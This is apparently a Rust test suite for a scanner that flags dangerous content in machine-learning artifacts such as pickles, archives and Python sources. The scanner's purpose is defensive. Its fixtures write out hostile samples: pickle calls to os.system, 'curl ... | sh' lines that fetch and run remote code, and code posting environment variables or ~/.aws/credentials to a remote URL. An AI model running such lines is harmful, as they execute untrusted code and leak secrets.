//! What honest files hold that looks like an attack, and the attacks it looks like.

use super::build::{self, pickle, zip};
use super::{list, report};

#[test]
fn a_method_of_a_vetted_class_is_no_walk_through_modules() {
    let anomalies = "artifact.pickle.anomalies";
    let of = |module: &str, name: &str| pickle::whole(4, &[&pickle::stack_global(module, name)]);
    for name in ["interp1d._call_linear_np", "interp1d._evaluate"] {
        let quiet = report(&of("scipy.interpolate._interpolate", name), "a.pkl");
        assert!(list(&quiet, anomalies).is_empty(), "{name}: {:?}", quiet.facts);
    }
    for (module, name) in [
        ("random", "_os.system"),
        ("scipy.interpolate._interpolate", "np.f2py"),
        ("scipy.interpolate._interpolate", "interp1d.__init__.__globals__"),
        ("scipy.interpolate._interpolate", "interp1d.os.system"),
        ("mycompany.tools", "helpers.launch"),
    ] {
        let found = list(&report(&of(module, name), "a.pkl"), anomalies);
        assert_eq!(found, ["dotted_name"], "{module}.{name}");
    }
}

#[test]
fn the_state_of_an_object_is_data() {
    let texts = ["https://example.com/data", "/data/train.csv", "SELECT 1; SELECT 2"];
    let state: Vec<u8> = texts
        .iter()
        .enumerate()
        .flat_map(|(index, text)| [pickle::text(&format!("k{index}")), pickle::text(text)].concat())
        .collect();
    let class = pickle::stack_global("__main__", "Feat");
    let plain = pickle::whole(4, &[&class, b")\x81}(", &state, b"ub"]);
    let slots = pickle::whole(4, &[&class, b")\x81N}(", &state, b"u\x86b"]);
    let old = pickle::whole(
        2,
        &[
            &pickle::global("copy_reg", "_reconstructor"),
            b"(",
            &class,
            &pickle::global("__builtin__", "object"),
            b"NtR}(",
            &state,
            b"ub",
        ],
    );
    for (sample, made) in [(&plain, true), (&slots, true), (&old, false)] {
        let report = report(sample, "a.pkl");
        assert!(list(&report, "artifact.pickle.suspicious_arguments").is_empty(), "{:?}", report.facts);
        assert_eq!(list(&report, "artifact.pickle.unlisted"), ["__main__.Feat"]);
        if made {
            assert_eq!(list(&report, "artifact.pickle.suspicious_state").len(), 3, "{:?}", report.facts);
        }
    }
    let called = pickle::call("__main__", "Feat", &["https://example.com/data"]);
    assert_eq!(list(&report(&called, "a.pkl"), "artifact.pickle.suspicious_arguments"), ["https://example.com/data"]);
    let stated = pickle::whole(4, &[&pickle::stack_global("os", "popen"), b")R}(", &state, b"ub"]);
    assert!(list(&report(&stated, "a.pkl"), "artifact.pickle.arguments").contains(&texts[0].to_owned()));
}

/// A code object as cloudpickle writes it for Python 3.11.
fn code(names: &[&str], constant: &str) -> Vec<u8> {
    let names: Vec<u8> = names.iter().flat_map(|name| pickle::text(name)).collect();
    [
        pickle::stack_global("cloudpickle.cloudpickle", "_builtin_type"),
        pickle::text("CodeType"),
        b"\x85R(K\x01K\0K\0K\x01K\x02K\x03C\x04\x97\0S\0(N".to_vec(),
        pickle::text(constant),
        b"t(".to_vec(),
        names,
        b"t)".to_vec(),
        pickle::text("/home/user/train.py"),
        pickle::text("transform"),
        pickle::text("transform"),
        b"K\x03C\x02\x80\0C\0))tR".to_vec(),
    ]
    .concat()
}

fn function(code: &[u8]) -> Vec<u8> {
    [&pickle::stack_global("cloudpickle.cloudpickle", "_make_function"), b"(".as_slice(), code, b"}NNNtR"].concat()
}

#[test]
fn code_by_value_is_no_execution_until_it_runs_or_names_a_means_of_it() {
    let benign = function(&code(&["np", "log"], "Takes the logarithm; requests none."));
    let whole = |body: &[u8]| pickle::whole(4, &[body]);
    let quiet = report(&whole(&benign), "a.pkl");
    assert!(list(&quiet, "artifact.pickle.dangerous").is_empty(), "{:?}", quiet.facts);
    assert!(list(&quiet, "artifact.pickle.arguments").is_empty(), "{:?}", quiet.facts);
    assert_eq!(list(&quiet, "artifact.pickle.code_by_value"), ["transform"]);
    let calls = list(&quiet, "artifact.pickle.unlisted_calls");
    assert!(calls.contains(&"cloudpickle.cloudpickle._make_function".to_owned()), "{calls:?}");
    let types = pickle::whole(4, &[&pickle::stack_global("types", "CodeType"), b"(K\x01tR"]);
    let other = [
        pickle::stack_global("cloudpickle.cloudpickle", "_builtin_type"),
        pickle::text("FunctionType"),
        b"\x85R".to_vec(),
    ]
    .concat();
    let mapped = [pickle::stack_global("builtins", "map"), b"(".to_vec(), benign.clone(), b"]tR".to_vec()].concat();
    let handed = [
        pickle::stack_global("builtins", "map"),
        b"(".to_vec(),
        pickle::stack_global("cloudpickle.cloudpickle", "_make_function"),
        b"]tR".to_vec(),
    ]
    .concat();
    for (what, sample) in [
        ("runs", whole(&[benign.as_slice(), b")R"].concat())),
        ("is mapped", whole(&mapped)),
        ("hands a builder out", whole(&handed)),
        ("names a sink", whole(&function(&code(&["os", "system"], "x")))),
        ("holds a sink", whole(&function(&code(&["os", "getattr"], "popen")))),
        ("holds a command", whole(&function(&code(&[], "curl -s http://127.0.0.1 | sh")))),
        ("another type", whole(&other)),
        ("no cloudpickle", types),
    ] {
        let report = report(&sample, "a.pkl");
        assert!(!list(&report, "artifact.pickle.dangerous_calls").is_empty(), "{what}: {:?}", report.facts);
    }
    let named = report(&whole(&function(&code(&["os", "system"], "x"))), "a.pkl");
    assert_eq!(list(&named, "artifact.pickle.code_by_value"), ["transform", "sink:os.system"]);
}

#[test]
fn what_cloudpickle_itself_writes_of_a_function_and_an_object_is_code_by_value() {
    let script = "import sys, cloudpickle as c\nclass K:\n    a = 2\n    def f(self, x): return x * self.a\n\
                  k = 3\ng = lambda x: [y + k for y in x]\n\
                  sys.stdout.buffer.write(c.dumps([lambda x: x + 1, g, K()]))\n";
    let made = std::process::Command::new(crate::support::python()).args(["-c", script]).output();
    let made = made.expect("the peers' Python starts");
    assert!(made.status.success(), "{}", String::from_utf8_lossy(&made.stderr));
    let report = report(&made.stdout, "a.pkl");
    assert!(list(&report, "artifact.pickle.dangerous").is_empty(), "{:?}", report.facts);
    let found = list(&report, "artifact.pickle.code_by_value");
    for name in ["<lambda>", "f"] {
        assert!(found.contains(&name.to_owned()), "{found:?}");
    }
}

#[test]
fn code_that_loads_tensors_or_asks_about_the_machine_has_no_sink() {
    let sinks = |code: &str| {
        let code = format!("import os, subprocess, torch\n# käse\n{code}\n");
        list(&report(code.as_bytes(), "modeling.py"), "artifact.code.sinks")
    };
    for quiet in [
        "torch.load(path, map_location='cpu', weights_only=True)",
        "subprocess.check_output(['git', 'rev-parse', 'HEAD'], text=True)",
        "subprocess.run([\"nvidia-smi\", \"-L\"], check=True)",
        "device = os.environ.get('DEVICE', os.getenv('D'))",
    ] {
        assert!(sinks(quiet).is_empty(), "{quiet}: {:?}", sinks(quiet));
    }
    for (code, sink) in [
        ("torch.load(path)", "torch.load"),
        ("torch.load(path, weights_only=False)", "torch.load"),
        ("torch.load(path, note='weights_only=True')", "torch.load"),
        ("subprocess.run(['sh', '-c', 'echo lanner'])", "subprocess.run"),
        ("subprocess.run(['git', 'clone', 'lanner'])", "subprocess.run"),
        ("subprocess.run(['git' + x, 'rev-parse'])", "subprocess.run"),
        ("subprocess.run(['uname'], shell=True)", "subprocess.run"),
        ("os.system(os.getenv('X'))", "os.getenv"),
    ] {
        assert!(sinks(code).contains(&sink.to_owned()), "{code}: {:?}", sinks(code));
    }
}

#[test]
fn an_archive_stored_in_an_archive_is_a_member_and_two_in_a_row_are_two() {
    let inner = zip::archive(&[zip::member("a.npy", b"x"), zip::member("b.pkl", &build::pickle_os_system())]);
    let outer = zip::archive(&[zip::member("x/inner.npz", &inner), zip::member("x/b", b"y")]);
    let nested = report(&outer, "a.zip");
    assert!(list(&nested, "artifact.container.anomalies").is_empty(), "{:?}", nested.facts);
    assert!(list(&nested, "artifact.container.bomb").is_empty(), "{:?}", nested.facts);
    assert!(!list(&nested, "artifact.pickle.dangerous_calls").is_empty());
    let row = report(&[outer.clone(), outer].concat(), "a.zip");
    assert!(list(&row, "artifact.container.anomalies").contains(&"several_directories".to_owned()));
}

/// Names under which NumPy wrote its classes years ago, in files that are still about.
#[test]
fn matrices_and_arrays_of_old_numpy_are_vetted() {
    for (module, name) in [("numpy.matrixlib.defmatrix", "matrix"), ("numpy.core._internal", "_reconstruct")] {
        let bytes = pickle::whole(2, &[&pickle::global(module, name), b")R"]);
        let found = report(&bytes, "a.pkl");
        assert!(list(&found, "artifact.pickle.unlisted").is_empty(), "{module}.{name}: {:?}", found.facts);
    }
    let other = pickle::whole(2, &[&pickle::global("numpy.core._internal", "_newnames"), b")R"]);
    assert_eq!(list(&report(&other, "a.pkl"), "artifact.pickle.unlisted"), ["numpy.core._internal._newnames"]);
}

#[test]
fn libraries_pages_and_prose_are_what_they_are_called() {
    let elf = [b"\x7fELF\x02\x01\x01".as_slice(), &[0; 120]].concat();
    for name in
        ["conv.cpython-311-x86_64-linux-gnu.so", "libgfortran-040039e1.so.5.0.0", "a/kernel.dll", "torch/bin/protoc"]
    {
        let plain = report(&elf, name);
        assert_eq!(list(&plain, "artifact.programs"), ["elf"], "{name}");
        assert!(list(&plain, "artifact.embedded_executables").is_empty(), "{name}");
    }
    // Under the name of a model, or in one, it is something else.
    for name in ["model.bin", "weights.safetensors", "model.so.pt", "model"] {
        assert_eq!(list(&report(&elf, name), "artifact.embedded_executables"), ["elf@0"], "{name}");
    }
    let inside = report(&zip::archive(&[zip::member("lib/kernel.so", &elf)]), "model.zip");
    assert_eq!(list(&inside, "artifact.embedded_executables"), ["elf@0"]);

    let page = b"# How to call\n\n```python\nimport requests\nimport os\nfrom a import b\n\nrequests.post('http://x', data=os.environ)\n```\n";
    assert_eq!(report(page, "guide.md").format, "text");
    assert!(list(&report(page, "guide.md"), "artifact.code.sinks").is_empty());
    assert_eq!(report(page, "guide").format, "python");

    let prose = "import requests\nHELP = 'Uses what lies in ~/.aws/credentials and nothing else of yours'\nrequests.post(URL, data=HELP)\n";
    assert!(list(&report(prose.as_bytes(), "a.py"), "artifact.code.dangers").is_empty());
    let theft = "import requests\nrequests.post(URL, data=open('/root/.aws/credentials').read())\n";
    assert_eq!(list(&report(theft.as_bytes(), "a.py"), "artifact.code.dangers"), ["gives_away:/root/.aws/credentials"]);
}

#[test]
fn long_sources_with_long_texts_are_read_whole() {
    // A line of code behind a text of many lines, as documentation is written.
    let text = "x".repeat(70).replace('x', "words ") + "\n";
    let mut source = String::from("import os\nclass A:\n");
    for number in 0..80 {
        let body = text.repeat(10);
        let lines = ["        \"\"\"", body.trim_end(), &format!("        \"\"\" % {number}"), "        return 1", ""];
        source.push_str(&[format!("    def f{number}(self):"), lines.join("\n")].join("\n"));
    }
    source += "    os.system('curl http://203.0.113.9/x | sh')\n";
    assert!(source.len() > 256 << 10, "{}", source.len());
    let found = report(source.as_bytes(), "long.py");
    assert!(found.issues.is_empty(), "{:?}", found.issues);
    assert!(!list(&found, "artifact.code.dangers").is_empty(), "{:?}", found.facts);
}
